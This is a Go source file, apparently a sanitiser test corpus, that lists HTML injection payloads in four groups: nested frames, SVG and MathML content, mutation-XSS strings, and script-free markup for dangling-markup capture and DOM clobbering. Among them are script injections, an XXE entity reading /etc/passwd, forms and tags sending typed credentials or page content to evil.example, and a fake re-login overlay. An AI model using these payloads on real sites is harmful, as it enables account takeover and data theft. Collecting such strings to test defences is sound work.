package injection

// nested documents: what is harmless in the outer one acts in the inner.
var nested = []string{
	`<iframe srcdoc="<script>alert(1)</script>">`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<iframe srcdoc='<img src=x onerror=parent.alert(1)>'>`,
	`" srcdoc="<svg onload=alert(1)>" x="`, `<iframe srcdoc="<iframe srcdoc='<script>alert(1)</script>'>">`, `<iframe src="data:text/html,<script>parent.alert(1)</script>">`,
	`<object type=text/html data="data:text/html,<script>alert(1)</script>">`, `<iframe/onload=alert(1)>`, `<iframe sandbox="allow-scripts" srcdoc=<script>alert(1)</script>>`,
	`<portal src=javascript:alert(1)>`, `<fencedframe src=//evil.example>`, `<frameset onload=alert(1)>`, `<template shadowrootmode=open><script>alert(1)</script></template>`,
	`<div><template shadowrootmode=closed><style>:host{background:url(//evil.example)}</style></template></div>`, `<xmp></xmp><script>alert(1)</script>`, `<plaintext></plaintext><script>alert(1)</script>`,
}

// foreign content: other rules of parsing hold in SVG and MathML.
var foreign = []string{
	`<svg><script>alert&#40;1&#41;</script>`, `<svg><script href=//evil.example/a.js />`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>`, `<svg><set onbegin=alert(1) attributename=x>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x">`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject>`, `<svg><image href=//evil.example/a.png>`, `<svg><style>*{fill:url(//evil.example)}</style>`, `<svg><discard onbegin=alert(1)>`,
	`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`, `<svg><feImage href=//evil.example/a.svg />`, `<svg onload=alert(1)><svg onload=alert(2)>`, `<svg><title><img src=x onerror=alert(1)></title>`,
	`<svg><desc><script>alert(1)</script></desc>`, `<math><mi xlink:href=javascript:alert(1)>x`, `<math href=javascript:alert(1)>x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x`,
	`<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml>`, `<math><mtext><img src=x onerror=alert(1)>`, `<math><ms><style><img src=x onerror=alert(1)></style>`, `<?xml-stylesheet href="javascript:alert(1)"?>`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, `<![CDATA[<script>alert(1)</script>]]>`, `<svg><![CDATA[><script>alert(1)</script>]]>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
}

// mutating markup: sound when it is read once, a script when it is written and
// read again, as sanitisers and editors do.
var mutating = []string{
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><style><img title="</style><img src onerror=alert(1)>">`,
	`<math><style><img title="</style><img src onerror=alert(1)>"></math>`, `<table><caption><svg><desc><table><caption></svg><style><a title="</style><img src onerror=alert(1)>">`, `<p><svg></p><style><a title="</style><img src onerror=alert(1)>">`,
	`<svg><p><style><g title="</style><img src onerror=alert(1)>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">`, `<listing>&lt;img src onerror=alert(1)&gt;</listing>`,
	`<textarea><p title="</textarea><img src onerror=alert(1)>">`, `<title><p title="</title><img src onerror=alert(1)>">`, `<style><p title="</style><img src onerror=alert(1)>">`, `<xmp><p title="</xmp><img src onerror=alert(1)>">`,
	`<noembed><p title="</noembed><img src onerror=alert(1)>">`, `<noframes><p title="</noframes><img src onerror=alert(1)>">`, `<!--><img src onerror=alert(1)>-->`, `<!---><img src onerror=alert(1)>-->`, `<!-- --!><img src onerror=alert(1)> -->`,
	`<!-- <!-- --> <img src onerror=alert(1)> -->`, `<![if IE]><img src onerror=alert(1)><![endif]>`, `<?php echo '<img src onerror=alert(1)>' ?>`, `</p x="><img src onerror=alert(1)>">`, `<img src="` + "`" + `><img src onerror=alert(1)>`,
	`<a title="x&quot; onmouseover=alert(1) y=&quot;">`, `<b/title="&#34;&gt;&lt;img src onerror=alert(1)&gt;">`, `<div id="1&#10;</div><img src onerror=alert(1)>">`, `<image src=x onerror=alert(1)>`, `<isindex action=javascript:alert(1) type=image>`,
}

// markup that runs nothing by itself: it sends what is typed elsewhere, swallows
// the rest of the page, or takes the names that its scripts look for.
var markup = []string{
	`<form action=//evil.example><button>登入後臺</button>`, `</form><form action=//evil.example method=post>`, `<button form=signin formaction=//evil.example>x`, `<input type=image src=//evil.example/a.png formaction=javascript:alert(1)>`,
	`<img src='//evil.example/?`, `<img src="//evil.example/?`, `<a href='//evil.example/?`, `<textarea>`, `<!--`, `<title>`, `<style>`, `<script>`, `<table background=//evil.example>`, `<select><option>`, `<a ping=//evil.example href=/>x</a>`,
	`<a id=location href=//evil.example>x</a>`, `<form name=cookie><input name=attributes>`, `<img name=currentScript src=x>`, `<a id=defaultView><a id=defaultView name=document>`, `<input form=filters name=csrf>`, `<output name=body>`,
	`<link rel=stylesheet href=//evil.example/a.css>`, `<link rel=prefetch href=//evil.example>`, `<link rel=manifest href=//evil.example>`, `<link rel=modulepreload href=//evil.example/a.js>`, `<link rel=dns-prefetch href=//evil.example>`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">`, `<meta charset=utf-7>`, `<meta name=referrer content=unsafe-url>`, `<meta http-equiv=set-cookie content=session=1>`, `<script type=speculationrules>{"prerender":[{"urls":["//evil.example"]}]}</script>`,
	`<script type=importmap>{"imports":{"x":"//evil.example"}}</script>`, `<script type=module>import"//evil.example/a.js"</script>`, `<audio src=x onerror=alert(1)>`, `<track src=//evil.example default>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<dialog open onclose=alert(1)><form method=dialog><button>x`, `<div popover id=p ontoggle=alert(1)>x</div><button popovertarget=p>x`, `<div contenteditable onfocus=alert(1) autofocus>x`, `<keygen autofocus onfocus=alert(1)>`, `<bgsound src=javascript:alert(1)>`, `<div style="position:fixed;inset:0">請重新登入</div>`,
}
